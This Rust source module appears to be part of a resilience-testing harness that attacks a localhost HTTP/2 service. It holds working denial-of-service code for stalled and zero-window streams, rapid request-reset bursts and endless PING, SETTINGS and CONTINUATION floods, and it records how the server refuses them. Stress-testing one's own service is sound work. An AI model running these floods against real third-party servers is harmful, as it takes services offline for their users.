//! Attackers that speak HTTP/2: with it one connection asks as much as hundreds, and takes back
//! what it asked for before it is answered.

use std::convert::Infallible;
use std::io;
use std::pin::Pin;
use std::time::Duration;

use bytes::Bytes;
use futures_util::stream::{FuturesUnordered, Stream, StreamExt as _, once, pending, unfold};
use http_body_util::{Empty, StreamBody};
use hyper::body::{Body, Frame, Incoming};
use hyper::client::conn::http2::{Builder, Connection, SendRequest};
use hyper::header::{ACCEPT_ENCODING, AUTHORIZATION, CONTENT_TYPE, RETRY_AFTER};
use hyper::{Method, Request, Response, Version};
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::attack::Target;
use super::frame;

/// Streams that an attacker has open on one connection, if it may.
const STREAMS: usize = 256;
/// Requests that are taken back together, and how long there is between two such heaps: what a
/// thin line carries.
const HEAP: u32 = 100;
const HEAP_PAUSE: Duration = Duration::from_millis(20);
/// Between a request and its taking back: long enough that it is begun.
const MOMENT: Duration = Duration::from_millis(1);
/// Frames of a flood that are sent together.
const FRAMES: usize = 100;

type Parts = StreamBody<Pin<Box<dyn Stream<Item = Result<Frame<Bytes>, Infallible>> + Send>>>;
type Spoken<B> = Connection<TokioIo<TcpStream>, B, TokioExecutor>;

impl Target {
    /// As many streams as there may be, each with a body that is not finished; another one for
    /// each that is answered.
    pub(super) async fn unfinished_streams(&self, number: usize) -> io::Result<String> {
        let (sender, connection) =
            self.speak(number, &mut Builder::new(TokioExecutor::new())).await?;
        let ask = || {
            let request = self.request(Method::POST, &self.path, unfinished(number));
            let mut sender = sender.clone();
            async move { sender.send_request(request?).await.map_err(io::Error::other) }
        };
        let asking = async {
            let mut asked: FuturesUnordered<_> = (0..STREAMS).map(|_| ask()).collect();
            while let Some(answer) = asked.next().await {
                self.answered(&answer?);
                asked.push(ask());
            }
            Ok(String::new())
        };
        during(connection, asking).await
    }

    /// As many answers as there may be, and no window for any.
    pub(super) async fn untaken_streams(&self, number: usize) -> io::Result<String> {
        let mut builder = Builder::new(TokioExecutor::new());
        builder.initial_stream_window_size(0);
        let (sender, connection) = self.speak(number, &mut builder).await?;
        let ask = |_| {
            let request = self.request(Method::GET, "/openapi.json", Empty::<Bytes>::new());
            let mut sender = sender.clone();
            async move { sender.send_request(request?).await.map_err(io::Error::other) }
        };
        let asking = async {
            let mut asked: FuturesUnordered<_> = (0..STREAMS).map(ask).collect();
            let mut untaken = Vec::new();
            while let Some(answer) = asked.next().await {
                let answer = answer?;
                self.answered(&answer);
                untaken.push(answer);
            }
            std::future::pending().await
        };
        during(connection, asking).await
    }

    /// Requests that are taken back: some before they can be begun, the others right after.
    pub(super) async fn resets(&self, number: usize) -> io::Result<String> {
        let mut stream = self.connect(number, None).await?;
        stream.write_all(frame::BEGIN).await?;
        let fields = self.fields("GET");
        let (mut from, mut to) = stream.split();
        let asking = async {
            for first in (1..u32::MAX >> 1).step_by(2 * HEAP as usize) {
                let streams = || (first..first + 2 * HEAP).step_by(2);
                let heap: Vec<u8> = if number.is_multiple_of(2) {
                    let both = |id| [frame::request(id, &fields), frame::reset(id)].concat();
                    streams().flat_map(both).collect()
                } else {
                    to.write_all(
                        &streams().flat_map(|id| frame::request(id, &fields)).collect::<Vec<_>>(),
                    )
                    .await?;
                    sleep(MOMENT).await;
                    streams().flat_map(frame::reset).collect()
                };
                to.write_all(&heap).await?;
                sleep(HEAP_PAUSE).await;
            }
            Ok(String::new())
        };
        tokio::select! {
            asked = asking => asked,
            ended = ignore(&mut from) => ended,
        }
    }

    /// Frames without end that are no requests.
    pub(super) async fn floods(&self, number: usize) -> io::Result<String> {
        let mut stream = self.connect(number, None).await?;
        stream.write_all(frame::BEGIN).await?;
        let fields = self.fields("POST");
        let (first, again) = match number % 4 {
            0 => (Vec::new(), frame::ping()),
            1 => (Vec::new(), frame::settings()),
            2 => (frame::unfinished(1, &fields), frame::more(1, &frame::field("x", "y"))),
            _ => (frame::begun(1, &fields), frame::empty_part(1)),
        };
        stream.write_all(&first).await?;
        let heap = again.repeat(FRAMES);
        let (mut from, mut to) = stream.split();
        let asking = async {
            loop {
                to.write_all(&heap).await?;
                sleep(MOMENT).await;
            }
        };
        let ended = tokio::select! {
            asked = asking => asked,
            ended = ignore(&mut from) => ended,
        };
        sleep(HEAP_PAUSE).await;
        ended
    }

    async fn speak<B>(
        &self,
        number: usize,
        builder: &mut Builder<TokioExecutor>,
    ) -> io::Result<(SendRequest<B>, Spoken<B>)>
    where
        B: Body<Data = Bytes, Error = Infallible> + Send + Unpin + 'static,
    {
        let stream = self.connect(number, None).await?;
        builder.handshake(TokioIo::new(stream)).await.map_err(io::Error::other)
    }

    fn request<B>(&self, method: Method, path: &str, body: B) -> io::Result<Request<B>> {
        let request = Request::builder()
            .method(method)
            .uri(format!("http://localhost{path}"))
            .version(Version::HTTP_2)
            .header(AUTHORIZATION, format!("Bearer {}", self.token))
            .header(ACCEPT_ENCODING, "gzip")
            .header(CONTENT_TYPE, "application/json");
        request.body(body).map_err(io::Error::other)
    }

    fn fields(&self, method: &str) -> Vec<u8> {
        let proof = format!("Bearer {}", self.token);
        let fields: [(&str, &str); 5] = [
            (":method", method),
            (":scheme", "http"),
            (":path", &self.path),
            (":authority", "localhost"),
            ("authorization", &proof),
        ];
        fields.iter().flat_map(|(name, value)| frame::field(name, value)).collect()
    }

    fn answered(&self, answer: &Response<Incoming>) {
        let status = answer.status().as_u16();
        let after = answer.headers().get(RETRY_AFTER).and_then(|value| value.to_str().ok());
        self.refused(status, after);
        self.note(status.to_string());
    }
}

/// A space, and then one a second, or nothing at all.
fn unfinished(number: usize) -> Parts {
    let part = || Ok(Frame::data(Bytes::from_static(b" ")));
    let first = once(std::future::ready(part()));
    let rest: Pin<Box<dyn Stream<Item = _> + Send>> = if number.is_multiple_of(2) {
        Box::pin(unfold((), move |()| async move {
            sleep(Duration::from_secs(1)).await;
            Some((part(), ()))
        }))
    } else {
        Box::pin(pending())
    };
    StreamBody::new(Box::pin(first.chain(rest)))
}

/// Asks for as long as the connection lives.
async fn during<B>(
    connection: Spoken<B>,
    asking: impl Future<Output = io::Result<String>>,
) -> io::Result<String>
where
    B: Body<Data = Bytes, Error = Infallible> + Send + Unpin + 'static,
{
    tokio::select! {
        ended = connection => ended.map(|()| "closed".to_owned()).map_err(io::Error::other),
        asked = asking => asked,
    }
}

/// Takes what comes and forgets it, until nothing comes any more.
async fn ignore(from: &mut (impl tokio::io::AsyncRead + Unpin)) -> io::Result<String> {
    let mut part = [0; 4096];
    while from.read(&mut part).await? > 0 {}
    Ok("closed".to_owned())
}
